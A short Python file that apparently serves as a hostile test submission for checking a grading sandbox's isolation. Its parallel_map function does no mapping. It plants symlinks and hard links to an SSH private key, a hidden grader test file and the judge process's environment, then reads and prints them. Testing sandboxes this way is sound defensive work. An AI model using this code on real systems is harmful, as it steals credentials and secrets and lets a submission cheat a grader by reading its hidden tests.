"""Puts symbolic and hard links to what it must not read where the judge might follow them, and reads through them.

needs: isolation
"""

import os

WANTED = [
    "@SCENE@/home/.ssh/id_ed25519",
    "@SCENE@/catalogue/grader/suites/01_target/parallel_map/test_parallel_map.py",
    "/proc/@JUDGE@/environ",
]


def parallel_map(function, items, workers):
    made = []
    for folder in ("/tmp", "/dev/shm", "/box/submission", "/box/kit/grader/player", os.path.dirname(__file__)):
        for number, wanted in enumerate(WANTED):
            for link in (os.symlink, os.link):
                path = f"{folder}/attack-{link.__name__}-{number}"
                try:
                    link(wanted, path)
                    made.append(path)
                except OSError:
                    continue
    for path in made:
        try:
            with open(path, errors="replace") as file:
                print(path, file.read(1 << 16), flush=True)
        except OSError:
            continue
    return []
